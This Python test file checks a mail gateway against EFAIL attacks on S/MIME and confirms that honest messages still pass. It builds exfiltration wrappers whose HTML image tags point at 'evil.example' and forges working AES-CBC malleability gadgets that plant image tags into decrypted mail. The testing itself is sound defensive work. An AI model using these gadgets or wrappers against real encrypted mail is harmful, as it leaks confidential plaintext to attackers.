#!/usr/bin/env python3
"""Attacks on encrypted mail that make the recipient's program send its text away: parts around the cipher text ("EFAIL", direct exfiltration;
"Re: What's up Johnny?"), and blocks of somebody else's CBC cipher text cut and pasted ("EFAIL", malleability gadgets). The gadgets are real
ones, made from known plain text; the test knows the content key, so it knows what comes out. And honest mail, which must pass."""
import email
import hashlib
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "lib"))
import gateway  # noqa: E402
from outside import EYE, Outside, fields, receive, text, tlv, wrap  # noqa: E402

ONE = "user_1@behoerde.de"
SECRET = "The secret plan, " + "word by word, " * 20 + "end.\r\n"
IMAGE = b'<img src="//e.x/'  # sixteen octets


def xor(*blocks):
    return bytes(a ^ b ^ c for a, b, c in zip(*blocks))


class Cipher:
    """A text encrypted with AES-256-CBC for a certificate, taken apart into blocks."""

    def __init__(self, pki, name, plain):
        self.pki, self.name = pki, name
        self.key, iv = hashlib.sha256(plain).digest(), hashlib.sha256(b"IV" + plain).digest()[:16]  # the same garbage in every run
        padding = 16 - len(plain) % 16
        self.plain = plain + bytes([padding]) * padding
        octets = gateway.openssl("enc", "-aes-256-cbc", "-nopad", "-K", self.key.hex(), "-iv", iv.hex(), input=self.plain)
        self.blocks = [iv] + [octets[n:n + 16] for n in range(0, len(octets), 16)]  # blocks[n + 1] is that of plain text block n

    def chosen(self, number, wanted):
        """What has to stand in front of the cipher text of block `number`, so that it becomes `wanted`."""
        return xor(self.blocks[number], self.plain[number * 16:number * 16 + 16], wanted)

    def gadget(self, number, wanted):
        """Two blocks: one that comes out as garbage, and `wanted`."""
        return [self.chosen(number, wanted), self.blocks[number + 1]]

    def opened(self, blocks):
        return gateway.openssl("enc", "-d", "-aes-256-cbc", "-nopad", "-K", self.key.hex(), "-iv", blocks[0].hex(), input=b"".join(blocks[1:]))

    def sealed(self, blocks=None):
        """The message: EnvelopedData with these blocks, the first of them being the IV."""
        blocks = blocks or self.blocks
        certificate = self.pki.path(self.name + ".crt")
        identifier = gateway.openssl("x509", "-in", certificate, "-noout", "-ext", "subjectKeyIdentifier").split(b"\n")[1].strip()
        wrapped = gateway.openssl("pkeyutl", "-encrypt", "-certin", "-inkey", certificate, input=self.key)
        info = tlv(0x30, tlv(2, b"\2"), tlv(0x80, bytes.fromhex(identifier.decode().replace(":", ""))),
                   tlv(0x30, bytes.fromhex("06092a864886f70d010101"), tlv(5)), tlv(4, wrapped))
        content = tlv(0x30, bytes.fromhex("06092a864886f70d010701"), tlv(0x30, bytes.fromhex("060960864801650304012a"), tlv(4, blocks[0])),
                      tlv(0x80, b"".join(blocks[1:])))
        return wrap(tlv(0x30, bytes.fromhex("06092a864886f70d010703"), tlv(0xa0, tlv(0x30, tlv(2, b"\2"), tlv(0x31, info), content))))


def said(tap, g, octets, status, name, inside=None, never=None):
    code, output, got, _ = receive(g, octets)
    good = code == 0 and len(got) == 1 and got[0].status == status
    good = good and (inside is None or inside in got[0].octets) and (never is None or never not in got[0].octets)
    tap.ok(good, name, f"{code} {output!r} {[d.status for d in got]} {got and got[0].octets[:1200]!r}")
    return got[0] if len(got) == 1 else None


def kept(tap, g, octets, name):
    """Delivered as it came, and nothing else."""
    got = said(tap, g, octets, ("undecryptable", "none"), name, never=b"secret")
    tap.ok(got is not None and got.octets.endswith(octets[octets.index(b"MIME-Version"):]), "... delivered as it came")


def text_at_most(tap, g, octets, name):
    """What has no MIME header at all is refused, or is text and nothing else."""
    code, output, got, _ = receive(g, octets)
    shown = email.message_from_bytes(got[0].octets) if len(got) == 1 else None
    tap.ok(code == 0 and shown is not None and (got[0].encryption == "undecryptable" or
           (got[0].encryption == "not-integrity-protected" and shown.get_content_type() == "text/plain")), name,
           f"{code} {output!r} {[d.status for d in got]} {got and got[0].octets[:1200]!r}")


def direct(tap, g, out):
    """Parts around the cipher text: it is not decrypted there, whoever made the parts."""
    secret = out.encrypt(text(SECRET), ONE).split(b"MIME-Version: 1.0\n", 1)[1]
    html, end = b'Content-Type: text/html\n\n<img src="http://evil.example/', b'Content-Type: text/html\n\n">'

    def around(kind, *parts):
        return f"MIME-Version: 1.0\nContent-Type: multipart/{kind}; boundary=q\n\n".encode() + b"".join(b"--q\n" + part + b"\n" for part in parts) + b"--q--\n"

    attached = b"Content-Type: message/rfc822\n\n" + fields() + b"MIME-Version: 1.0\n" + secret
    hidden = secret.replace(b"Content-Type", b"Content-ID: <target>\nContent-Type", 1)
    please = text("Please answer.\n" + "\n" * 40)
    forms = (("between HTML parts", around("mixed", html, secret, end)), ("between HTML parts, related", around("related", html, secret, end)),
             ("alone in multipart/mixed", around("mixed", secret)), ("shown as an image", around("related", b'Content-Type: text/html\n\n<img src="cid:target">', hidden)),
             ("behind many empty lines", around("mixed", please, secret)), ("as an alternative", around("alternative", please, secret)),
             ("as attached message", around("mixed", please, attached)), ("as the message's only attached message", b"MIME-Version: 1.0\n" + attached),
             ("twice", around("mixed", secret, secret)), ("hidden by CSS", around("mixed", b"Content-Type: text/html\n\n<style>*{display:none}</style>", secret, please)),
             ("deep inside", around("mixed", around("mixed", html, secret, end).split(b"\n", 1)[1].replace(b"=q", b"=r").replace(b"--q", b"--r"), please)),
             ("in a multipart/signed without signature", around("signed", secret, please)), ("in a multipart/encrypted", around("encrypted", text("Version: 1\n"), secret)))
    for name, octets in forms:
        said(tap, g, fields() + octets, ("none", "none"), name, inside=secret[-400:], never=b"secret")
        said(tap, g, fields() + out.encrypt(octets, ONE, cipher="aes-128-gcm"), ("decrypted", "none"), f"{name}, encrypted once more by the attacker", never=b"secret")
        said(tap, g, fields() + out.sign(octets, EYE), ("none", "valid"), f"{name}, signed by the attacker", never=b"secret")
    for name, more in (("a line that is no field", '<img src="http://evil.example/\n'), ("two CRs", 'X-A: b\r\r<img src="http://evil.example/\n'), ("HTML and two CRs", 'X-A: b\rContent-Type: text/html\r\r<img src="http://evil.example/\n'),
                       ("Content-Type with NUL", 'Content-Type\0: text/html\n'), ("a line of NUL", "X-A: b\n\0\nX-B: c\n")):
        got = said(tap, g, fields(more=more) + out.encrypt(text(SECRET), ONE), ("not-integrity-protected", "none"), f"header of an encrypted message: {name}", inside=b"secret")
        head = got.octets.replace(b"\r\n", b"\n").split(b"\n\n", 1)[0] if got else b""
        lines = head.split(b"\n")
        tap.ok(b"\r" not in head and b"\0" not in head and all(line[:1] in b" \t" or b":" in line for line in lines) and
               [line for line in lines if line.startswith(b"Content-Type")] == [b"Content-Type: text/plain; charset=us-ascii"],
               "... is none for anybody else either", head)
    other = "Content-Type: multipart/mixed; boundary=q\n"
    said(tap, g, fields(more=other) + out.encrypt(text(SECRET), ONE), ("none", "none"), "another Content-Type in front", never=b"secret")
    got = said(tap, g, fields() + out.encrypt(text(SECRET), ONE).replace(b"\n\n", b"\n" + other.encode() + b"\n", 1), ("not-integrity-protected", "none"),
               "another Content-Type behind", inside=b"secret")
    tap.ok(got is not None and b"multipart/mixed" not in got.octets, "... is left out")
    got = said(tap, g, b' <img src="http://evil.example/\n' + fields() + out.encrypt(text(SECRET), ONE), ("not-integrity-protected", "none"), "a folded line first", inside=b"secret")
    tap.ok(got is not None and b"evil" not in got.octets, "... is left out")


def forms():
    """Letters with a place to put something into: (name, entity, octets of it that are kept in front)."""
    head = b"Content-Type: text/html; charset=%s\r\nContent-Transfer-Encoding: %s\r\n\r\n"
    body = b"<html><body><p>" + SECRET.encode() * 2 + b"</p></body></html>\r\n"
    base64 = gateway.openssl("base64", input=body).replace(b"\n", b"\r\n")
    alternative = (b'Content-Type: multipart/alternative; boundary="inner"\r\n\r\n--inner\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n' + SECRET.encode() +
                   b"\r\n--inner\r\n" + head % (b"utf-8", b"8bit") + body + b"\r\n--inner--\r\n")
    return (("UTF-8", head % (b"utf-8", b"8bit") + body, 112), ("US-ASCII", head % (b"us-ascii", b"7bit") + body, 112),
            ("quoted-printable", head % (b"iso-8859-1", b"quoted-printable") + body.replace(b"=", b"=3D"), 128), ("base64", head % (b"iso-8859-1", b"base64") + base64, 128),
            ("multipart/alternative", alternative, 560), ("multipart/alternative, in its plain part", alternative, 160),
            ("XHTML", b"Content-Type: application/xhtml+xml; charset=utf-8\r\n\r\n" + body, 96))


def gadgets(tap, g, out):
    for name, entity, place in forms():
        cipher = Cipher(g.pki, ONE, entity)
        said(tap, g, fields() + cipher.sealed(), ("not-integrity-protected", "none"), f"{name}: as it is")
        blocks = cipher.blocks
        cut = place // 16 + 1
        for number in (0, 1):
            forged = blocks[:cut] + cipher.gadget(number, IMAGE) + blocks[cut:]
            tap.ok(IMAGE in cipher.opened(forged) and b"word by word" in cipher.opened(forged) or name == "base64", f"{name}: the gadget works")
            kept(tap, g, fields(more=f"X-N: {number}\n") + cipher.sealed(forged), f"{name}: a gadget in the text")
        kept(tap, g, fields() + cipher.sealed(blocks[:cut] + blocks[cut + 2:]), f"{name}: two blocks cut out of the text")
        kept(tap, g, fields() + cipher.sealed(blocks[:cut] + blocks[cut - 3:]), f"{name}: blocks repeated")
    header(tap, g)
    marked(tap, g)
    cipher = Cipher(g.pki, ONE, forms()[4][1])
    blocks = cipher.blocks
    text_at_most(tap, g, fields() + cipher.sealed(blocks[2:]), "without its first blocks")
    kept(tap, g, fields() + cipher.sealed(blocks[:8] + blocks[-2:]), "without its last ones: the multipart is not closed")
    kept(tap, g, fields() + cipher.sealed(blocks + blocks[-2:]), "the last ones twice: text behind the multipart")
    signed = out.sign(text(SECRET), EYE).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    cipher = Cipher(g.pki, ONE, signed[signed.index(b"Content-Type"):])
    said(tap, g, fields() + cipher.sealed(), ("not-integrity-protected", "valid"), "signed and encrypted")
    at = cipher.plain.index(b"word by word") // 16 + 2
    kept(tap, g, fields() + cipher.sealed(cipher.blocks[:at] + cipher.gadget(0, IMAGE) + cipher.blocks[at:]), "... and a gadget")


def header(tap, g):
    """Fields in front of those that are there: the first block is chosen freely, what comes out between the others stands in a comment or in a
    field of its own."""
    cipher = Cipher(g.pki, ONE, b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + SECRET.encode() * 2)
    rest = cipher.blocks[1:]
    for name, pieces in (("a comment", (b"Content-Type: (x", b") text/html\r\n\r\n<", b' p title="      ', IMAGE)),
                         ("fields", (b"X-A: 0123456789 ", b"\r\nContent-Type:\t", b" text/html\r\n\r\n  ", IMAGE)),
                         ("a field of its own in front", (b"Content-Type: (x", b")text/html\r\nX-A:", b"x y z           "))):
        blocks = [cipher.chosen(0, pieces[0]), cipher.blocks[1]]
        for piece in pieces[1:]:
            blocks += cipher.gadget(0, piece)
        forged = blocks + rest
        tap.ok(pieces[-1] in cipher.opened(forged) and b"word by word" in cipher.opened(forged), f"garbage in {name}: the gadgets work")
        kept(tap, g, fields(more=f"X-N: {name}\n") + cipher.sealed(forged), f"garbage in {name}")
    # a block of the attacker's choice without any garbage: nothing can be seen, so it is told that nothing protects the text
    for wanted in (b"Content-Type: TE", b"Content-Type:\tte", b"content-type: te"):
        forged = [cipher.chosen(0, wanted)] + rest
        said(tap, g, fields(more=f"X-N: {wanted!r}\n") + cipher.sealed(forged), ("not-integrity-protected", "none"), f"a changed IV: {wanted!r}", inside=b"secret")
    for wanted in (b"Content-Type\x01:te", b"Content-Type: t\0"):
        kept(tap, g, fields(more=f"X-N: {wanted!r}\n") + cipher.sealed([cipher.chosen(0, wanted)] + rest), f"a changed IV: {wanted!r}")
    for wanted in (b"Content Type: te", b"\r\nContent-Type:t", b" ontent-Type: te"):
        text_at_most(tap, g, fields(more=f"X-N: {wanted!r}\n") + cipher.sealed([cipher.chosen(0, wanted)] + rest), f"a changed IV: {wanted!r}")


def is_text(octets):
    """Could somebody have written that in Windows-1252?"""
    return not any(c in b"\0\1\2\3\4\5\6\7\x08\x0e\x0f\x7f" or 0x10 <= c < 0x1b or 0x1b < c < 0x20 or c in b"\x81\x8d\x8f\x90\x9d" for c in octets)


def marked(tap, g):
    """Where any octet is a character, garbage may look like text: that is what the word not-integrity-protected is for."""
    cipher = Cipher(g.pki, ONE, b"Content-Type: text/html; charset=iso-8859-1\r\n\r\n<p>Sch\xf6n ist das.\r\n" + SECRET.encode() * 2)
    found = {}
    for n in range(10000):  # another garbage each time
        wanted = b"<img src=//e.x/" + bytes([0x20 + n % 0x5f])
        forged = cipher.blocks[:6] + cipher.gadget(n // 0x5f % len(cipher.blocks[1:]), wanted) + cipher.blocks[6:]
        found.setdefault(is_text(cipher.opened(forged)[:-16]), forged)
        if len(found) == 2:
            break
    kept(tap, g, fields() + cipher.sealed(found[False]), "garbage that is no ISO-8859-1")
    got = said(tap, g, fields() + cipher.sealed(found[True]), ("not-integrity-protected", "none"), "garbage that could be ISO-8859-1 is marked")
    tap.ok(got is not None and b"<img src" in email.message_from_bytes(got.octets).get_payload(decode=True), "... and delivered")


MIXED = b"Content-Type: multipart/mixed; boundary=q\n\n"
NO_MIME = {"no header": b"The secret plan\n", "an empty line first": b"\nThe secret plan\n", "HTML without a header": b"<html><img src=\"http://evil.example/\n",
           "CR in the header": b"X-A: b\rContent-Type: text/html\n\nsecret\n"}
BROKEN = {
    "no empty line": b"Content-Type: text/plain\nThe secret plan\n", "a header only": b"Content-Type: text/plain; x=secret",
    "two types": b"Content-Type: text/html\nContent-Type: text/plain\n\nsecret\n", "two types in a part": MIXED + b"--q\nContent-Type: text/html\nContent-Type: text/plain\n\nsecret\n--q--\n",
    "two encodings": b"Content-Transfer-Encoding: 7bit\nContent-Transfer-Encoding: base64\n\nsecret\n", "no closing delimiter": MIXED + b"--q\n\nsecret\n", "no part": MIXED + b"secret\n", "no boundary": b"Content-Type: multipart/mixed\n\nsecret\n",
    "octets that are no text behind the last part": MIXED + b"--q\n\none\n--q--\nsecret\xe4\n", "... in front of the first": MIXED + b"secret\1\n--q\n\none\n--q--\n",
    "another part behind the last": MIXED + b"--q\n\none\n--q--\n--q\n\nsecret\n",
    "an inner multipart that is not closed": MIXED + b"--q\nContent-Type: multipart/mixed; boundary=r\n\n--r\n\nsecret\n--q--\n",
    "a line that is no field in a part": MIXED + b"--q\nsecret\nContent-Type: text/html\n\none\n--q--\n", "NUL in the header": b"Content-Type: te\0xt/plain\n\nsecret\n", "CR in the header": b"X-A: b\rY\nContent-Type: text/html\n\nsecret\n",
    "NUL in the text": b"Content-Type: text/plain\n\nsecret\0\n", "a control character": b"Content-Type: text/plain\n\nsecret\1\n", "no UTF-8": b"Content-Type: text/plain; charset=utf-8\n\nsecret \xe4\n",
    "octets beyond US-ASCII": b"Content-Type: text/plain; charset=us-ascii\n\nsecret \xe4\n", "octets that no Western charset has": b"Content-Type: text/html\n\nsecret \x81\n", "no base64": b"Content-Type: text/html\nContent-Transfer-Encoding: base64\n\nc2Vjcm*V0\n",
    "octets in base64": b"Content-Type: application/pdf\nContent-Transfer-Encoding: base64\n\nc2Vjcm\xe4V0\n", "octets in quoted-printable": b"Content-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\nsecret \xe4\n",
    "garbage in an attached message": b"Content-Type: message/rfc822\n\nContent-Type: text/html\n\nsecret\1\n"}


def entities(tap, g, out):
    """What is no complete MIME entity is released only if a tag proves that it is the sender's."""
    def seal(entity, cipher):
        return gateway.openssl("cms", "-encrypt", "-binary", f"-{cipher}", "-outform", "DER", "-recip", g.pki.path(ONE + ".crt"), input=entity)

    for name, entity in BROKEN.items():
        kept(tap, g, fields(more=f"X-N: {name}\n") + wrap(seal(entity, "aes-256-cbc")), f"CBC: {name}")
        said(tap, g, fields(more=f"X-N: {name}\n") + wrap(seal(entity, "aes-256-gcm")), ("decrypted", "none"), f"GCM: {name}")
    for name, entity in NO_MIME.items():
        text_at_most(tap, g, fields(more=f"X-N: {name}\n") + wrap(seal(entity, "aes-256-cbc")), f"CBC: {name}")
    latin = "Sch\u00f6ne Gr\u00fc\u00dfe".encode("latin-1")
    eight = b"Content-Transfer-Encoding: 8bit\n\n"
    attachment = b"--q\nContent-Type: %s\nContent-Disposition: attachment; filename=\"\xdcbung.pdf\"\n" + eight + b"%%PDF \0\1\xff\n"
    for name, entity in (
            ("ISO-8859-1 without a label", b"Content-Type: text/plain\n\n" + latin), ("ISO-8859-1 without any MIME", b"X-A: b\n\n" + latin), ("ISO-8859-1", b"Content-Type: text/plain; charset=ISO-8859-1\n" + eight + latin),
            ("Windows-1252", b"Content-Type: text/html; charset=windows-1252\n" + eight + b"\x84Gr\xfc\xdfe\x93 \x96 100 \x80\n"), ("Windows-1252 called ISO-8859-1", b"Content-Type: text/plain; charset=iso-8859-1\n" + eight + b"\x84Gr\xfc\xdfe\x93\n"),
            ("UTF-8", b"Content-Type: text/plain; charset=UTF-8\n" + eight + "Sch\u00f6n \u20ac \U0001f600\n".encode()), ("UTF-8 without a label", b"Content-Type: text/plain\n\n" + "Sch\u00f6n\n".encode()),
            ("KOI8-R", b"Content-Type: text/plain; charset=koi8-r\n" + eight + "\u041f\u0440\u0438\u0432\u0435\u0442 \u2591\n".encode("koi8-r")), ("Shift_JIS", b"Content-Type: text/plain; charset=Shift_JIS\n" + eight + "\u65e5\u672c\u8a9e\u30bd\n".encode("shift-jis")),
            ("ISO-2022-JP", b"Content-Type: text/plain; charset=iso-2022-jp\n\n" + "\u65e5\u672c\u8a9e\n".encode("iso-2022-jp")), ("form feed, tabs, ESC", text("a\tb\f\n\033[1mc\033[0m\v\n")),
            ("CRLF", text("Hello\n").replace(b"\n", b"\r\n")), ("a preamble", MIXED + b"This is a message in MIME format.\n--q\n\none\n--q--\n\n"), ("an epilogue (RFC 2046)", MIXED + b"This is the preamble.\n--q\n\none\n--q--\nThis is the epilogue. It is also to be ignored.\n"), ("an empty part", MIXED + b"--q\n\none\n--q\nContent-Type: text/plain\n\n\n--q--\n"),
            ("quoted-printable as some write it", b"Content-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n<p>Gr=fc=DFe = 100% \n=\n=20\n"),
            ("base64 without line ends", b"Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\nSGVsbG8=" ), ("base64 without padding", b"Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\nSGVsbG8\n"),
            ("8-bit file names", MIXED + b"--q\n\none\n" + attachment % b"application/pdf; name=\"\xdcbung.pdf\"" + b"--q--\n"), ("a binary attachment", MIXED + b"--q\n\none\n" + attachment % b"application/octet-stream" + b"--q--\n"),
            ("an attached message that is broken", MIXED + b"--q\n\none\n--q\nContent-Type: message/rfc822\n\nno field\nContent-Type: multipart/mixed; boundary=r\n\n--r\n\n\xff\n--q--\n"),
            ("a signed message", out.sign(text("Hello\n"), EYE).replace(b"\r\n", b"\n"))):
        octets = fields(more=f"X-N: {name}\n") + wrap(seal(entity, "aes-256-cbc"))
        got = said(tap, g, octets, ("not-integrity-protected", "valid" if name == "a signed message" else "none"), f"honest: {name}")
        body = entity.split(b"\r\n\r\n" if b"\r\n" in entity else b"\n\n", 1)[1].replace(b"\r\n", b"\n")
        shown = got.octets.replace(b"\r\n", b"\n") if got else b""
        tap.ok(shown.rstrip(b"\n").endswith(body.rstrip(b"\n")) or "binary" in name or "8-bit file" in name, "... with its text", shown[-600:])
    message = email.message_from_bytes(got.octets)
    tap.ok(message.get_content_type() == "multipart/signed", "... and its structure")


def main():
    tap = gateway.Tap()
    with gateway.Gateway() as g:
        out = Outside(g.pki)
        g.own_key(ONE)
        g.pki.person(EYE, "ec")
        for part in (direct, gadgets, entities):
            part(tap, g, out)
    return tap.end()


sys.exit(main())
